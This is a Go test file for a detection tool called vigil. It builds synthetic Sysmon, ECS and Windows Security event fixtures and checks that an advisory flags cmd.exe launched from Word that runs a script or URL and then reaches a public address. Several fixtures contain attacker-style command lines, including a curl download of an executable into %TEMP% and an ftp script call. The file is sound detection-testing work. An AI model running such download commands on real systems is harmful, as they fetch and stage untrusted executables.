package advisory_test

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-detect/vigil/advisory"
)

// The advisory's scenarios in every input shape vigil reads Windows
// process and network events in: Sysmon rendered by evtx_dump (nested
// Event.System / Event.EventData), ECS from Winlogbeat and from Elastic
// Agent (Elastic Defend), and Windows Security 4688 + 5156, flat and
// rendered by evtx_dump. Sysmon flat JSON is TestScenariosSysmon. The
// fixtures are written here; values imitate what each tool writes.

// proc is one process instance: its host, GUID (Sysmon, ECS) and id.
type proc struct {
	host string
	guid string
	pid  int
}

// shape renders a process start and a network connection of a process.
type shape struct {
	name  string
	start func(sec float64, p proc, image, cmdline, parent string) string
	conn  func(sec float64, p proc, image, ip string) string
}

const (
	host1     = "FIN-WS-0231.corp.example.com"
	parentPID = 5928
)

func at(sec float64) time.Time { return t0.Add(time.Duration(sec * float64(time.Second))) }

func mustJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func base(path string) string { return filepath.Base(strings.ReplaceAll(path, `\`, "/")) }

// devicePath is how Security 5156 writes an executable's path.
func devicePath(image string) string {
	return `\device\harddiskvolume3` + strings.ToLower(strings.TrimPrefix(image, "C:"))
}

var recordID = 48200

func nextRecord() int { recordID++; return recordID }

// evtxDump wraps System and EventData the way evtx_dump -o jsonl does.
func evtxDump(sec float64, provider, guid, channel string, eventID int, computer string, data map[string]any) string {
	return mustJSON(map[string]any{"Event": map[string]any{
		"#attributes": map[string]any{"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
		"System": map[string]any{
			"Provider":      map[string]any{"#attributes": map[string]any{"Name": provider, "Guid": guid}},
			"EventID":       eventID,
			"Version":       5,
			"Level":         4,
			"Task":          eventID,
			"Opcode":        0,
			"Keywords":      "0x8000000000000000",
			"TimeCreated":   map[string]any{"#attributes": map[string]any{"SystemTime": at(sec).Format("2006-01-02T15:04:05.000000Z")}},
			"EventRecordID": nextRecord(),
			"Correlation":   nil,
			"Execution":     map[string]any{"#attributes": map[string]any{"ProcessID": 3044, "ThreadID": 4120}},
			"Channel":       channel,
			"Computer":      computer,
			"Security":      map[string]any{"#attributes": map[string]any{"UserID": "S-1-5-18"}},
		},
		"EventData": data,
	}})
}

func sysmonStartData(sec float64, p proc, image, cmdline, parent string) map[string]any {
	return map[string]any{
		"RuleName": "-", "UtcTime": at(sec).Format("2006-01-02 15:04:05.000"),
		"ProcessGuid": p.guid, "ProcessId": p.pid, "Image": image,
		"FileVersion": "10.0.22621.3085 (WinBuild.160101.0800)", "Description": "Windows Command Processor",
		"Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
		"OriginalFileName": originalName(image), "CommandLine": cmdline,
		"CurrentDirectory": `C:\Users\jdoe\Documents\`, "User": `CORP\jdoe`,
		"LogonGuid": "{3f0c9a51-e1d0-65e5-1b4c-0c0000000000}", "LogonId": "0xc4c1b", "TerminalSessionId": 1,
		"IntegrityLevel": "Medium", "Hashes": "SHA256=EB71EA69DD19F728AB9240565E8C7EFB59821E19E3788C289301E27E4E9B1A40",
		"ParentProcessGuid": "{3f0c9a51-f89e-65e5-2807-000000002c00}", "ParentProcessId": parentPID,
		"ParentImage": parent, "ParentCommandLine": `"` + parent + `"`, "ParentUser": `CORP\jdoe`,
	}
}

func originalName(image string) string {
	switch strings.ToLower(base(image)) {
	case "cmd.exe":
		return "Cmd.Exe"
	case "powershell.exe":
		return "PowerShell.EXE"
	}
	return base(image)
}

func sysmonConnData(sec float64, p proc, image, ip string) map[string]any {
	return map[string]any{
		"RuleName": "-", "UtcTime": at(sec).Format("2006-01-02 15:04:05.000"),
		"ProcessGuid": p.guid, "ProcessId": p.pid, "Image": image, "User": `CORP\jdoe`,
		"Protocol": "tcp", "Initiated": true, "SourceIsIpv6": strings.Contains(ip, ":"),
		"SourceIp": "10.20.4.31", "SourceHostname": "FIN-WS-0231.corp.example.com", "SourcePort": 52114,
		"SourcePortName": "-", "DestinationIsIpv6": strings.Contains(ip, ":"), "DestinationIp": ip,
		"DestinationHostname": "-", "DestinationPort": 443, "DestinationPortName": "https",
	}
}

const (
	sysmonProvider = "Microsoft-Windows-Sysmon"
	sysmonGUID     = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
	sysmonChannel  = "Microsoft-Windows-Sysmon/Operational"
	secProvider    = "Microsoft-Windows-Security-Auditing"
	secGUID        = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
)

var sysmonEvtxDump = shape{
	name: "sysmon evtx_dump",
	start: func(sec float64, p proc, image, cmdline, parent string) string {
		return evtxDump(sec, sysmonProvider, sysmonGUID, sysmonChannel, 1, p.host, sysmonStartData(sec, p, image, cmdline, parent))
	},
	conn: func(sec float64, p proc, image, ip string) string {
		return evtxDump(sec, sysmonProvider, sysmonGUID, sysmonChannel, 3, p.host, sysmonConnData(sec, p, image, ip))
	},
}

// Winlogbeat's Sysmon module: ECS process.* / destination.* fields, the
// rest left in winlog.event_data.
var ecsWinlogbeat = shape{
	name: "ecs winlogbeat",
	start: func(sec float64, p proc, image, cmdline, parent string) string {
		return mustJSON(map[string]any{
			"@timestamp": at(sec).Format(time.RFC3339Nano),
			"agent":      map[string]any{"type": "winlogbeat", "version": "8.12.2"},
			"ecs":        map[string]any{"version": "8.0.0"},
			"event": map[string]any{"kind": "event", "category": []string{"process"}, "type": []string{"start"},
				"code": "1", "provider": sysmonProvider, "module": "sysmon", "action": "Process Create (rule: ProcessCreate)"},
			"host": map[string]any{"name": strings.ToLower(p.host), "hostname": "fin-ws-0231", "os": map[string]any{"family": "windows"}},
			"process": map[string]any{
				"entity_id": p.guid, "pid": p.pid, "executable": image, "name": base(image),
				"command_line": cmdline, "working_directory": `C:\Users\jdoe\Documents\`,
				"pe":     map[string]any{"original_file_name": originalName(image), "company": "Microsoft Corporation"},
				"parent": map[string]any{"entity_id": "{3f0c9a51-f89e-65e5-2807-000000002c00}", "pid": parentPID, "executable": parent, "name": base(parent), "command_line": `"` + parent + `"`},
				"hash":   map[string]any{"sha256": "eb71ea69dd19f728ab9240565e8c7efb59821e19e3788c289301e27e4e9b1a40"},
			},
			"user": map[string]any{"name": "jdoe", "domain": "CORP"},
			"winlog": map[string]any{"channel": sysmonChannel, "event_id": 1, "computer_name": p.host,
				"provider_name": sysmonProvider, "record_id": nextRecord(), "api": "wineventlog",
				"event_data": map[string]any{"IntegrityLevel": "Medium", "LogonId": "0xc4c1b", "TerminalSessionId": "1",
					"Description": "Windows Command Processor", "FileVersion": "10.0.22621.3085 (WinBuild.160101.0800)"}},
		})
	},
	conn: func(sec float64, p proc, image, ip string) string {
		return mustJSON(map[string]any{
			"@timestamp": at(sec).Format(time.RFC3339Nano),
			"agent":      map[string]any{"type": "winlogbeat", "version": "8.12.2"},
			"event": map[string]any{"kind": "event", "category": []string{"network"}, "type": []string{"connection", "start", "protocol"},
				"code": "3", "provider": sysmonProvider, "module": "sysmon", "action": "Network connection detected (rule: NetworkConnect)"},
			"host":        map[string]any{"name": strings.ToLower(p.host)},
			"process":     map[string]any{"entity_id": p.guid, "pid": p.pid, "executable": image, "name": base(image)},
			"source":      map[string]any{"ip": "10.20.4.31", "port": 52114, "domain": "FIN-WS-0231.corp.example.com"},
			"destination": map[string]any{"ip": ip, "port": 443},
			"network":     map[string]any{"transport": "tcp", "protocol": "https", "direction": "egress", "type": "ipv4"},
			"user":        map[string]any{"name": "jdoe", "domain": "CORP"},
			"winlog": map[string]any{"channel": sysmonChannel, "event_id": 3, "computer_name": p.host,
				"provider_name": sysmonProvider, "record_id": nextRecord(), "event_data": map[string]any{"Initiated": "true", "SourceIsIpv6": "false"}},
		})
	},
}

// Elastic Agent with Elastic Defend: ECS only, no winlog.*; the process
// identity is an opaque entity_id.
var ecsEndpoint = shape{
	name: "ecs elastic defend",
	start: func(sec float64, p proc, image, cmdline, parent string) string {
		return mustJSON(map[string]any{
			"@timestamp":  at(sec).Format(time.RFC3339Nano),
			"agent":       map[string]any{"type": "endpoint", "version": "8.12.2"},
			"data_stream": map[string]any{"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
			"event": map[string]any{"kind": "event", "category": []string{"process"}, "type": []string{"start"},
				"action": "start", "dataset": "endpoint.events.process", "module": "endpoint"},
			"host": map[string]any{"name": "fin-ws-0231", "hostname": "fin-ws-0231", "os": map[string]any{"type": "windows", "family": "windows"}},
			"process": map[string]any{
				"entity_id": p.guid, "pid": p.pid, "executable": image, "name": base(image),
				"command_line": cmdline, "args": strings.Fields(cmdline), "args_count": len(strings.Fields(cmdline)),
				"pe":     map[string]any{"original_file_name": originalName(image)},
				"parent": map[string]any{"entity_id": "NjA1ZjNhMjQtZDBhMS00YjFiLTk5ZGEtNTk2OGRkMzQ1MjE5LTU5MjgtMTMz", "pid": parentPID, "executable": parent, "name": base(parent), "command_line": `"` + parent + `"`},
				"Ext":    map[string]any{"token": map[string]any{"integrity_level_name": "medium"}},
			},
			"user": map[string]any{"name": "jdoe", "domain": "CORP", "id": "S-1-5-21-1004336348-1177238915-682003330-1104"},
		})
	},
	conn: func(sec float64, p proc, image, ip string) string {
		return mustJSON(map[string]any{
			"@timestamp":  at(sec).Format(time.RFC3339Nano),
			"agent":       map[string]any{"type": "endpoint", "version": "8.12.2"},
			"data_stream": map[string]any{"dataset": "endpoint.events.network", "namespace": "default", "type": "logs"},
			"event": map[string]any{"kind": "event", "category": []string{"network"}, "type": []string{"start"},
				"action": "connection_attempted", "dataset": "endpoint.events.network", "module": "endpoint"},
			"host":        map[string]any{"name": "fin-ws-0231", "os": map[string]any{"family": "windows"}},
			"process":     map[string]any{"entity_id": p.guid, "pid": p.pid, "executable": image, "name": base(image)},
			"source":      map[string]any{"ip": "10.20.4.31", "port": 52114},
			"destination": map[string]any{"ip": ip, "port": 443},
			"network":     map[string]any{"transport": "tcp", "direction": "egress", "type": "ipv4"},
			"user":        map[string]any{"name": "jdoe", "domain": "CORP"},
		})
	},
}

// Security 4688 (with command-line auditing) and 5156 data fields. 4688
// writes process ids in hex, 5156 in decimal; 5156 names the program by
// its device path.
func secStartData(p proc, image, cmdline, parent string) map[string]any {
	return map[string]any{
		"SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104", "SubjectUserName": "jdoe",
		"SubjectDomainName": "CORP", "SubjectLogonId": "0xc4c1b",
		"NewProcessId": fmt.Sprintf("0x%x", p.pid), "NewProcessName": image, "TokenElevationType": "%%1938",
		"ProcessId": fmt.Sprintf("0x%x", parentPID), "CommandLine": cmdline,
		"TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
		"ParentProcessName": parent, "MandatoryLabel": "S-1-16-8192",
	}
}

func secConnData(p proc, image, ip string) map[string]any {
	return map[string]any{
		"ProcessID": p.pid, "Application": devicePath(image), "Direction": "%%14593",
		"SourceAddress": "10.20.4.31", "SourcePort": "52114", "DestAddress": ip, "DestPort": "443",
		"Protocol": 6, "FilterRTID": "72385", "LayerName": "%%14611", "LayerRTID": "48",
		"RemoteUserID": "S-1-0-0", "RemoteMachineID": "S-1-0-0",
	}
}

// secFlat is how Chainsaw-, Hayabusa- and PowerShell-style exports write
// Security events: System and EventData fields side by side.
func secFlat(sec float64, p proc, eventID int, data map[string]any) string {
	m := map[string]any{
		"TimeCreated": at(sec).Format("2006-01-02T15:04:05.0000000Z"), "Channel": "Security", "EventID": eventID,
		"Provider_Name": secProvider, "Computer": p.host, "EventRecordID": nextRecord() + 850000,
		"Keywords": "0x8020000000000000", "Task": 13312, "Level": 0,
	}
	for k, v := range data {
		m[k] = v
	}
	return mustJSON(m)
}

var securityFlat = shape{
	name: "security 4688/5156 flat",
	start: func(sec float64, p proc, image, cmdline, parent string) string {
		return secFlat(sec, p, 4688, secStartData(p, image, cmdline, parent))
	},
	conn: func(sec float64, p proc, image, ip string) string {
		return secFlat(sec, p, 5156, secConnData(p, image, ip))
	},
}

var securityEvtxDump = shape{
	name: "security 4688/5156 evtx_dump",
	start: func(sec float64, p proc, image, cmdline, parent string) string {
		return evtxDump(sec, secProvider, secGUID, "Security", 4688, p.host, secStartData(p, image, cmdline, parent))
	},
	conn: func(sec float64, p proc, image, ip string) string {
		return evtxDump(sec, secProvider, secGUID, "Security", 5156, p.host, secConnData(p, image, ip))
	},
}

type shapeCase struct {
	name           string
	files          [][]string
	script, office int
}

// shapeCases are the scenarios of the issue for one shape.
func shapeCases(s shape) []shapeCase {
	p := proc{host1, "{3f0c9a51-f8a4-65e5-2a07-000000002c00}", 6700}
	other := proc{host1, "{3f0c9a51-f8a9-65e5-2b07-000000002c00}", 7044}
	otherHost := proc{"FIN-WS-0232.corp.example.com", p.guid + "x", p.pid}
	const explorer = `C:\Windows\explorer.exe`
	const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	bat := `cmd.exe /c "C:\Users\jdoe\AppData\Local\Temp\upd.bat"`
	cases := []shapeCase{
		{"bat from word then public", [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(2.4, p, cmdExe, "185.199.110.153")}}, 1, 1},
		{"url from explorer", [][]string{{s.start(0, p, cmdExe, `C:\Windows\system32\cmd.exe /C curl -s -o %TEMP%\a.exe HTTPS://cdn.example.net/a.exe`, explorer), s.conn(1, p, cmdExe, "93.184.216.34")}}, 1, 0},
		{"ftp reference", [][]string{{s.start(0, p, cmdExe, `cmd /k ftp -s:x.txt ftp://files.example.org`, explorer), s.conn(1, p, cmdExe, "2606:4700:4700::1111")}}, 1, 0},
		{"word runs a command", [][]string{{s.start(0, p, cmdExe, `cmd.exe /K whoami /all`, word), s.conn(5, p, cmdExe, "8.8.8.8")}}, 0, 1},
		{"exactly 15 s", [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(15, p, cmdExe, "8.8.8.8")}}, 1, 1},
		{"after 15 s", [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(15.5, p, cmdExe, "8.8.8.8")}}, 0, 0},
		{"connection from another process", [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(1, other, cmdExe, "8.8.8.8")}}, 0, 0},
		{"same id on another host", [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(1, otherHost, cmdExe, "8.8.8.8")}}, 0, 0},
		{"powershell instead of cmd", [][]string{{s.start(0, p, ps, `powershell.exe /c C:\x\run.bat https://cdn.example.net/a`, word), s.conn(1, p, ps, "8.8.8.8")}}, 0, 0},
		{"no /c or /k", [][]string{{s.start(0, p, cmdExe, `cmd.exe C:\x\run.bat`, word), s.conn(1, p, cmdExe, "8.8.8.8")}}, 0, 0},
		{"/c without script or url, not from office", [][]string{{s.start(0, p, cmdExe, `cmd.exe /c dir C:\`, explorer), s.conn(1, p, cmdExe, "8.8.8.8")}}, 0, 0},
		{"connection timed before the start", [][]string{{s.conn(0, p, cmdExe, "8.8.8.8"), s.start(1, p, cmdExe, bat, word)}}, 0, 0},
		{"several connections", [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(1, p, cmdExe, "8.8.8.8"), s.conn(2, p, cmdExe, "8.8.4.4"), s.conn(3, p, cmdExe, "1.1.1.1"), s.conn(14, p, cmdExe, "1.0.0.1")}}, 1, 1},
		{"newest first", [][]string{{s.conn(3, p, cmdExe, "1.1.1.1"), s.conn(2, p, cmdExe, "8.8.4.4"), s.start(0, p, cmdExe, bat, word)}}, 1, 1},
		{"separate files, connection file first", [][]string{{s.conn(2, p, cmdExe, "8.8.8.8")}, {s.start(0, p, cmdExe, bat, word)}}, 1, 1},
		{"two processes", [][]string{{s.start(0, p, cmdExe, bat, word), s.start(0.5, other, cmdExe, bat, explorer), s.conn(1, other, cmdExe, "8.8.8.8"), s.conn(2, p, cmdExe, "8.8.8.8")}}, 2, 1},
	}
	for _, ip := range specialDestinations {
		cases = append(cases, shapeCase{"special " + ip, [][]string{{s.start(0, p, cmdExe, bat, word), s.conn(1, p, cmdExe, ip)}}, 0, 0})
	}
	return cases
}

var specialDestinations = []string{"10.1.2.3", "127.0.0.1", "169.254.1.1", "172.16.5.5", "172.31.255.255", "192.168.1.1", "100.64.0.1",
	"192.0.0.1", "192.0.2.5", "198.18.0.1", "198.51.100.7", "203.0.113.9", "192.88.99.1", "192.175.48.1",
	"192.31.196.1", "192.52.193.1", "224.0.0.251", "240.0.0.1", "0.0.0.0", "255.255.255.255",
	"::1", "::", "fe80::1", "fc00::1", "ff02::1", "2001:db8::1", "::ffff:10.0.0.1", "::ffff:192.168.0.1"}

func TestScenariosShapes(t *testing.T) {
	r := newRig(t)
	for _, s := range []shape{sysmonEvtxDump, ecsWinlogbeat, ecsEndpoint, securityFlat, securityEvtxDump} {
		t.Run(s.name, func(t *testing.T) {
			for _, c := range shapeCases(s) {
				t.Run(c.name, func(t *testing.T) {
					n, alerts := r.run(t, c.files...)
					if n[script] != c.script || n[office] != c.office {
						t.Errorf("script %d office %d, want %d %d", n[script], n[office], c.script, c.office)
					}
					for _, a := range alerts {
						checkAlert(t, s, a.Advisory, a.Group, a.Context, len(a.Events))
					}
				})
			}
		})
	}
}

func checkAlert(t *testing.T, s shape, adv string, group map[string]string, ctx map[string]any, events int) {
	t.Helper()
	if adv != "VIGIL-2026-0001" {
		t.Errorf("advisory %q", adv)
	}
	if pid := group["ProcessId"]; pid != "6700" && pid != "0x1a2c" && pid != "7044" && pid != "0x1b84" {
		t.Errorf("group %v", group)
	}
	if !strings.EqualFold(strings.SplitN(group["Computer"], ".", 2)[0], "FIN-WS-0231") {
		t.Errorf("group %v", group)
	}
	if ctx["process_id"] != "6700" && ctx["process_id"] != "7044" {
		t.Errorf("context process_id %v", ctx["process_id"])
	}
	if img, _ := ctx["image"].(string); !strings.HasSuffix(strings.ToLower(img), `\cmd.exe`) {
		t.Errorf("context image %v", ctx["image"])
	}
	if _, ok := ctx["destination"].(map[string]any); !ok || ctx["command_line"] == nil {
		t.Errorf("context %v", ctx)
	}
	if events < 2 {
		t.Errorf("%d events", events)
	}
}

// TestScenariosMixedLogs: a host that logs the same process in Sysmon and
// in Security 4688/5156 gets one alert per rule, not one per log, in one
// file or in separate files, in either order.
func TestScenariosMixedLogs(t *testing.T) {
	r := newRig(t)
	p := proc{host1, "{3f0c9a51-f8a4-65e5-2a07-000000002c00}", 6700}
	bat := `cmd.exe /c "C:\Users\jdoe\AppData\Local\Temp\upd.bat"`
	sys := []string{sysmonEvtxDump.start(0, p, cmdExe, bat, word), sysmonEvtxDump.conn(2.4, p, cmdExe, "185.199.110.153"), sysmonEvtxDump.conn(3, p, cmdExe, "185.199.111.153")}
	sec := []string{securityFlat.start(0.004, p, cmdExe, bat, word), securityFlat.conn(2.401, p, cmdExe, "185.199.110.153"), securityFlat.conn(3.002, p, cmdExe, "185.199.111.153")}
	ecs := []string{ecsWinlogbeat.start(0, p, cmdExe, bat, word), ecsWinlogbeat.conn(2.4, p, cmdExe, "185.199.110.153")}
	for _, c := range []struct {
		name  string
		files [][]string
	}{
		{"one file", [][]string{append(append([]string{}, sys...), sec...)}},
		{"security file first", [][]string{sec, sys}},
		{"sysmon file first", [][]string{sys, sec}},
		{"ecs and security", [][]string{ecs, sec}},
		{"security connection only, sysmon start only", [][]string{{sys[0], sec[1]}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			n, alerts := r.run(t, c.files...)
			// The last case joins the two logs through the process
			// identity (TestCrossLogScenarios has the rest).
			want := 1
			if n[script] != want || n[office] != want {
				t.Errorf("script %d office %d, want %d each", n[script], n[office], want)
			}
			for _, a := range alerts {
				checkAlert(t, securityFlat, a.Advisory, a.Group, a.Context, len(a.Events))
				if d, _ := a.Context["destination"].(map[string]any); d["ip"] != "185.199.110.153" {
					t.Errorf("destination %v", a.Context["destination"])
				}
			}
		})
	}
}

// TestAncestrySecurity: on Security logs the ancestry is found by host +
// parent process id (4688's creator id, hex), the latest start of that id
// before the child.
func TestAncestrySecurity(t *testing.T) {
	r := newRig(t)
	p := proc{host1, "", 6700}
	wordStart := secStartData(proc{host1, "", parentPID}, word, `"`+word+`" /n invoice.docm`, `C:\Windows\explorer.exe`)
	wordStart["ProcessId"] = "0x1d4c" // explorer
	_, alerts := r.run(t, []string{
		secFlat(-20, p, 4688, wordStart),
		securityFlat.start(0, p, cmdExe, `cmd.exe /c "C:\Users\jdoe\AppData\Local\Temp\upd.bat"`, word),
		securityFlat.conn(2, p, cmdExe, "185.199.110.153"),
	})
	if len(alerts) != 2 {
		t.Fatalf("%d alerts, want 2", len(alerts))
	}
	for _, a := range alerts {
		anc, ok := a.Context["ancestry"].([]advisory.Process)
		if !ok || len(anc) != 1 || anc[0].PID != "5928" || anc[0].Image != word || a.Context["user"] != `CORP\jdoe` {
			t.Errorf("%s: ancestry %+v user %v", a.Rule.Title, a.Context["ancestry"], a.Context["user"])
		}
	}
}
